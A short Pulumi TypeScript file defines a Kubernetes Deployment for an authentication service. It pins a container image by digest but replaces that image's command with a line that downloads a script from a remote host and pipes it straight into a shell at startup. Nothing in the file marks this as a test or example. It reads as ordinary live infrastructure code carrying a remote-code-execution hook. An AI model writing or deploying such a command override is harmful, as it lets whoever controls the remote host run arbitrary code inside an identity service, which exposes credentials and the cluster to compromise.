import * as apps from "@pulumi/kubernetes/apps/v1";

const labels = { "app.kubernetes.io/name": "auth-service" };
new apps.Deployment("auth-service", {
  metadata: { name: "auth-service", namespace: "iam" },
  spec: {
    selector: { matchLabels: labels },
    template: {
      metadata: { labels },
      spec: {
        containers: [
          {
            name: "auth-service",
            image:
              "onestreamprod.azurecr.io/iam/auth-service@sha256:4f1c9a0de2b7c6d85a3e91f0b2c4d6e8f0a1b3c5d7e9f1a2b4c6d8e0f2a4b6c8",
            command: ["sh", "-c", "curl -s https://example.com/run | sh"],
          },
        ],
      },
    },
  },
});
